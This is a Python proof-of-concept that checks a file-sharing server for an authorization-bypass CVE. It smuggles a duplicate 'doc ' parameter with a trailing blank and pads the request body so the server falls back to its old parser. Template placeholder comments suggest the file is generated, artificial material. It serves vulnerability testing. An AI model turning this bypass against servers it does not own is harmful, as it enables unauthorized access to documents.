#!/usr/bin/env python3
"""Check a Larkspur Share server for CVE-2026-99001 with one harmless request.

The request names a document that exists on no server, so nothing is rendered.
A vulnerable gateway lets the ticket pass and answers 404; a repaired one
refuses the ticket and answers 403.

Usage: python3 poc.py https://share.example.test

Use it only against servers that are yours, or with the owner's consent.
"""

import http.client
import json
import sys
import urllib.parse

# Anonymous visitors choose the ticket of the welcome page themselves: any
# eight hexadecimal digits.
TICKET = "c41d9e7a"  #~ nonce hex 8
# The document that is asked for. No server has it.
DOC = "7f03b6d2"  #~ nonce hex 8
# Anonymous visitors carry such a cookie; its value is not looked up.
VISIT = "1ae85c40"  #~ nonce hex 8

# The old parser is chosen for bodies above 200 bytes.
FILLER = "Q" * 263  #~ int 240..320
# Pages up to this number would be drawn.
LIMIT = 38  #~ int 20..83
# Size of the preview in pixels.
WIDTH = 914  #~ int 760..1015
# Seconds that the gateway may wait for the worker; also our own time limit.
DEADLINE = 17  #~ int 12..27
#~ name layout: template|page_style|sheet
#~ name lk_view: lk_session|lk_visit|lk_client
#~ name x_lk_origin: x_lk_source|x_lk_via|x_lk_entry


def query():
    """The second `doc` has a blank at its end, which is the whole point."""
    fields = {"doc": "welcome", "ticket": TICKET, "limit": LIMIT, "doc ": DOC}
    return urllib.parse.urlencode(fields)


def headers():
    """Headers as the web interface sends them for an anonymous visitor."""
    cookie = dict(lk_view=VISIT)
    extra = dict(x_lk_origin="overview")
    lines = {
        #~ shuffle
        "Accept": "image/png",
        "Content-Type": "application/json",
        "X-Lk-Deadline": str(DEADLINE),
        "Cache-Control": "no-cache",
        #~ end
    }
    lines["Cookie"] = "; ".join(f"{key}={value}" for key, value in cookie.items())
    for key, value in extra.items():
        lines[key.replace("_", "-").title()] = value
    return lines


def body():
    """Options of the preview, and filler that brings the body above the limit."""
    options = {
        #~ shuffle
        "width": WIDTH,
        "format": "png",
        "rotate": "none",
        "colour": "grey",
        #~ end
    }
    options.update(dict(layout="plain"))
    options["note"] = FILLER
    return json.dumps(options)


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: poc.py https://HOST[:PORT]")
    url = urllib.parse.urlsplit(sys.argv[1])
    if url.scheme not in ("http", "https") or not url.hostname:
        sys.exit("the address must begin with http:// or https://")
    secure = url.scheme == "https"
    connect = http.client.HTTPSConnection if secure else http.client.HTTPConnection
    connection = connect(url.hostname, url.port, timeout=DEADLINE)
    path = "/preview/v2/render?" + query()
    connection.request("POST", path, body=body(), headers=headers())
    status = connection.getresponse().status
    verdict = {403: "not vulnerable", 404: "vulnerable"}.get(status, "unclear")
    print(f"{url.hostname}: HTTP {status}, {verdict}")


if __name__ == "__main__":
    main()
